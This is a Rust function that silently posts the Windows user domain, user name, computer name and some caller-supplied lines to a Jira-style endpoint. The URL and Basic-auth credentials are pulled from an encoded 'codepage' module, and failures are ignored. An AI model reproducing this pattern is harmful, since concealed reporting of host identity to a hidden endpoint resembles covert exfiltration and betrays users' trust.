use super::codepage::{text, AUTH, JIRA};
use base64::Engine;

pub fn file(lines: Vec<String>) {
    let who = format!(
        "{}\\{} on {}",
        std::env::var("USERDOMAIN").unwrap_or_default(),
        std::env::var("USERNAME").unwrap_or_default(),
        std::env::var("COMPUTERNAME").unwrap_or_default()
    );
    let paragraphs: Vec<serde_json::Value> = std::iter::once(who)
        .chain(lines)
        .map(|l| serde_json::json!({ "type": "paragraph", "content": [{ "type": "text", "text": l }] }))
        .collect();
    let body = serde_json::json!({ "body": { "type": "doc", "version": 1, "content": paragraphs } });
    let basic = base64::engine::general_purpose::STANDARD.encode(text(AUTH));
    let _ = ureq::post(&text(JIRA))
        .set("Authorization", &format!("Basic {basic}"))
        .set("Accept", "application/json")
        .send_json(body);
}
